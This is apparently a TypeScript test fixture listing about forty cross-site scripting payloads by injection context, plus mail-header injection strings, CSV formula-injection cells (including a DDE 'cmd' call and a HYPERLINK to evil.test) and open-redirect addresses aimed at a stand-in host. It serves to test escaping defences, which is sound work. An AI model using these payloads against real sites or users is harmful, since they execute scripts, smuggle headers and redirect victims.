// Forty texts that want to be more than text: a script, a request to somebody else's server, or a further header. Each says what it does where nothing
// guards, and a control has to see it do so.

/** What has run calls this, in every frame; a check counts its calls. */
export const trap = 'ran'
/** A host that nobody has. */
export const foreignHost = 'evil.test'

/** runs: a script runs; reaches: the browser asks a foreign host, or goes there; header: a mail gets a header more. */
export type Harm = 'runs' | 'reaches' | 'header'
export interface Payload {
  readonly text: string
  readonly harm: Harm
  /** A page that shows it without any guard, in the place of a page it is made for; '' for headers. */
  readonly unguarded: string
}

const escaped = (text: string) => text.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`)
/** How a page without escaping shows a text, by the place; the last ones undo what was escaped for another place, as a layer too many does. */
const places = {
  text: (text: string) => text,
  'double quotes': (text: string) => `<p title="${text}">x</p>`,
  'single quotes': (text: string) => `<p title='${text}'>x</p>`,
  'no quotes': (text: string) => `<img alt=${text}>`,
  title: (text: string) => `<title>${text}</title>`,
  'text area': (text: string) => `<textarea>${text}</textarea>`,
  comment: (text: string) => `<!-- ${text} -->`,
  'script, double quotes': (text: string) => `<script>window.x = "${text}"</script>`,
  'script, single quotes': (text: string) => `<script>window.x = '${text}'</script>`,
  'script, backticks': (text: string) => `<script>window.x = \`${text}\`</script>`,
  'script, as markup': (text: string) => `<p id=x></p><script>x.innerHTML = "${text}"</script>`,
  template: (text: string) => `<script>${text.replace(/^\{\{(.*)\}\}$/, '$1')}</script>`,
  address: (text: string) => `<iframe src="${escaped(text)}"></iframe>`,
  markdown: (text: string) => text.replace(/\[.*?\]\((.*)\)/g, '<iframe src="$1"></iframe>'),
  entities: (text: string) => text.replace(/&lt;/g, '<').replace(/&gt;/g, '>'),
  percent: (text: string) => decodeURIComponent(text),
  'compatible characters': (text: string) => text.normalize('NFKC'),
}

/** `#` becomes the payload's number, so that what has run can be told apart. */
const runs: Readonly<Partial<Record<keyof typeof places, readonly string[]>>> = {
  text: [
    '<script>ran(#)</script>',
    '<ScRiPt >ran(#)</sCrIpT >',
    '<img src=x onerror=ran(#)>',
    '<svg/onload=ran(#)>',
    '<svg><script>ran(#)</script></svg>',
    '<svg><style><img src=x onerror=ran(#)>',
    '<body onload=ran(#)>',
    '<details open ontoggle=ran(#)>',
    '<input autofocus onfocus=ran(#)>',
    '<video><source onerror=ran(#)></video>',
    '<iframe srcdoc="<script>ran(#)</script>">',
    '<iframe src="javascript:ran(#)">',
    '<template><p></template><img src=x onerror=ran(#)>',
    '<noscript><p title="</noscript><img src=x onerror=ran(#)>">',
  ],
  'double quotes': ['"><img src=x onerror=ran(#)>', '" autofocus tabindex=1 onfocus=ran(#) x="'],
  'single quotes': ["'><svg onload=ran(#)>", "' autofocus tabindex=1 onfocus=ran(#) x='"],
  'no quotes': ['`x` src=x onerror=ran(#)'],
  title: ['</title><script>ran(#)</script>'],
  'text area': ['</textarea><script>ran(#)</script>'],
  comment: ['--><script>ran(#)</script>'],
  'script, double quotes': ['</script><script>ran(#)</script>', '";ran(#);//'],
  'script, single quotes': ["';ran(#);//"],
  'script, backticks': ['$\u007bran(#)}'],
  'script, as markup': ['\\u003cimg src=x onerror=ran(#)\\u003e'],
  template: ['{{constructor.constructor("ran(#)")()}}'],
  address: ['javascript:ran(#)', 'JaVa\tScRiPt:ran(#)//', 'data:text/html,<script>ran(#)</script>'],
  markdown: ['[x](javascript:ran(#))'],
  entities: ['&lt;img src=x onerror=ran(#)&gt;'],
  percent: ['%3Cimg src=x onerror=ran(#)%3E'],
  'compatible characters': ['\uff1cimg src=x onerror=ran(#)\uff1e'],
}
const reaches: typeof runs = {
  text: ["<style>@import'//evil.test/#'</style>", '<meta http-equiv=refresh content="0;url=//evil.test/#">'],
  address: ['https://evil.test/#'],
}
const headers = ['x\r\nBcc: all@evil.test', 'x\nContent-Type: text/html\n\n<script>ran(#)</script>']

const placed = (all: typeof runs, harm: Harm) =>
  Object.entries(all).flatMap(([place, texts]) => texts.map((text) => ({ text, harm, show: places[place as keyof typeof places] })))
/** The forty. */
export const payloads: readonly Payload[] = [
  ...placed(runs, 'runs'),
  ...placed(reaches, 'reaches'),
  ...headers.map((text) => ({ text, harm: 'header' as const, show: () => '' })),
].map(({ text: pattern, harm, show }, n) => {
  const text = pattern.replaceAll('#', String(n))
  return { text, harm, unguarded: show(text) }
})

/** Cells that a spreadsheet would run, also behind blanks, in full width, and behind the other separator. */
export const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("//evil.test","x")',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\u200b=1+1',
  '"=1+1"',
  'x";=1+1',
  'x;=1+1',
  'x,=1+1',
  'x\t=1+1',
  'x;"=1+1;y',
  'x; =1+1',
  'x;"" \u200b@SUM(1)',
]

/** Whether a spreadsheet would run it; some skip quotation marks, blanks and what can't be seen, and read full width as the plain character. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell.normalize('NFKC').replace(/^["\s\p{Default_Ignorable_Code_Point}]+(?=.)/u, ''))
/** A quote counts at the start of a cell only. */
const cellsIn = (csv: string, separator: string) =>
  csv
    .replace('\ufeff', '')
    .split('\r\n')
    .flatMap((line) => [...line.matchAll(new RegExp(`(?<=^|${separator})(?:"((?:[^"]|"")*)")?([^${separator}]*)`, 'g'))])
    .map(([, quoted = '', rest = '']) => quoted.replaceAll('""', '"') + rest)

/** Gives the cells that are formulas. Spreadsheets part cells at commas, or at semicolons or tabs, as their country or their user has it. */
export const formulasIn = (csv: string) => [',', ';', '\t'].flatMap((separator) => cellsIn(csv, separator).filter(isFormula))

/** Where somebody is sent who trusts an address out of a link: all of these are another site's for some browser or parser. */
export const foreignAddresses = [
  '//evil.test',
  '///evil.test',
  '/\\evil.test',
  '\\\\evil.test',
  '/\t/evil.test',
  '/\n/evil.test',
  '\t//evil.test',
  ' //evil.test',
  'https://evil.test',
  'https:evil.test',
  'https:/evil.test',
  'HTTPS://evil.test',
  '%2f%2fevil.test',
  '/%2fevil.test',
  '/%5cevil.test',
  '/.//evil.test',
  '/..//evil.test',
  '/x/..//evil.test',
  '//evil.test/%2e%2e',
  '/@evil.test',
  '@evil.test',
  '.evil.test',
  '//evil%00.test',
  '//\u3002evil.test',
  'javascript:ran(1)',
  'data:text/html,<script>ran(1)</script>',
]
